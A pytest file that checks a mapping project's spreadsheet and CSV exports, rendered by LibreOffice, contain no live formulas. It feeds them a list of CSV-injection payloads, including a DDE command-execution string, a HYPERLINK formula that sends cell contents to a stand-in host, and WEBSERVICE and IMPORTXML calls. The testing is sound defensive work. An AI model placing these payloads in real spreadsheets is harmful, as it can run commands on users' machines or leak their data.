# ruff: noqa: E501
"""Every table that leaves, filled with texts that want to be formulas, opened by LibreOffice: not one cell of it is a formula.

It is read back as LibreOffice itself understood it (flat ODS, where a formula cell says so), and every text is still there.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from riskmap.catalogue import load
from riskmap.core.formula import unescape
from riskmap.core.gazetteer import District
from riskmap.settings import settings
from riskmap.writers import Column, export, returned, template, write

pytestmark = pytest.mark.long
HOSTILE = [
    *(sign + rest for sign in "=+-@＝＋－＠" for rest in ("1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"点")', "cmd|' /C calc'!A0")),
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", "''=1+1", "\"=1+1", "=1+1;", ";=1+1", ",=1+1",
    "=WEBSERVICE(\"http://x.example\")", "=DDE(\"soffice\";\"a\";\"b\")", "=IMPORTXML(\"http://x\",\"//a\")", "=1+1\n=2+2", "甲\n=1+1", "甲,=1+1", "甲\";=1+1", "of:=1+1", "{=1+1}", "−1+1", "﹢1+1", "﹣1", "=\u0000",
]
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# how a person's spreadsheet opens a csv: separator comma, quote, UTF-8, "detect special numbers" on, formulas evaluated where it would
CSV_IN = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1"


def opened(path: Path, *filters: str) -> tuple[list[str], list[str]]:
    """(formulas, texts) of every cell as LibreOffice understands the file."""
    profile = path.parent / "profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", *filters, "--convert-to", "fods", "--outdir", str(path.parent / "out"), str(path)],
                   check=True, timeout=300, capture_output=True)  # fmt: skip
    root = ElementTree.parse(path.parent / "out" / f"{path.stem}.fods").getroot()
    formulas, texts = [], []
    for cell in root.iter(f"{TABLE}table-cell"):
        if f"{TABLE}formula" in cell.attrib:
            formulas.append(cell.attrib[f"{TABLE}formula"])
        texts += ["".join(p.itertext()) for p in cell.iter(f"{TEXT}p")]
    return formulas, texts


@pytest.fixture(scope="module", autouse=True)
def office() -> None:
    assert shutil.which("soffice"), "LibreOffice is missing: setup/office.sh"


def test_the_search_finds_a_formula(tmp_path: Path) -> None:
    """The test can fail: a workbook and a csv with a real formula are found out."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(tmp_path / "a.xlsx")
    assert opened(tmp_path / "a.xlsx")[0]
    (tmp_path / "b.csv").write_text("甲\n=1+1\n", "utf-8")
    assert opened(tmp_path / "b.csv", CSV_IN)[0]


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_no_formula_in_a_table(form: str, tmp_path: Path) -> None:
    columns = [Column("name", "=1+1"), Column("many", "@多项", "list"), Column("n", "＋数", "number"), Column("on", "日期", "date"), Column("ok", "是否", "boolean")]
    rows = [{"name": t, "many": [t, t], "n": t, "on": t, "ok": t} for t in HOSTILE]
    path = tmp_path / f"a.{form}"
    path.write_bytes(write(form, "=1+1", columns, rows, "=1+1 & @市局"))
    formulas, texts = opened(path, *([CSV_IN] if form == "csv" else []))
    assert formulas == [] and len(texts) > len(HOSTILE)
    plain = {unescape(t) for t in texts}
    assert [t for t in HOSTILE if re.fullmatch(r"[\x20-\x7e＝＋－＠甲点]+", t) and "  " not in t and not t.startswith(" ") and t not in plain] == []


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_no_formula_in_the_export_of_any_layer(form: str, tmp_path: Path) -> None:
    catalogue = load(settings().layers_dir, settings().data_dir / "codes")
    for name, layer in catalogue.layers.items():
        features = [{"id": n, "geometry": None, "properties": dict.fromkeys((*layer.fields(), "code", "name", "address", "district", "town", "verified_on", "parent_name", "status"), text)}
                    for n, text in enumerate(HOSTILE)]  # fmt: skip
        path = tmp_path / f"{name}.{form}"
        path.write_bytes(export(layer, catalogue.codes, features, form, "=1+1"))
        formulas, texts = opened(path, *([CSV_IN] if form == "csv" else []))
        assert formulas == [] and len(texts) > len(HOSTILE), name


def test_no_formula_in_what_is_given_back(tmp_path: Path) -> None:
    """The rows of a file that was no workbook, with the reasons; the import template."""
    marks = [{"row": n, "heading": "名称", "severity": "refuse", "text": text} for n, text in enumerate(HOSTILE, 2)]
    path = tmp_path / "returned.xlsx"
    path.write_bytes(returned({"名称": HOSTILE, "=1+1": HOSTILE}, range(2, 2 + len(HOSTILE)), marks))
    formulas, texts = opened(path)
    assert formulas == [] and len(texts) > len(HOSTILE)
    catalogue = load(settings().layers_dir, settings().data_dir / "codes")
    for name, layer in catalogue.layers.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(template(layer, catalogue.codes, catalogue.folders[name] / "sample.csv", districts=[District("110101", "东城区")]))
        formulas, texts = opened(path)
        assert formulas == [] and texts, name
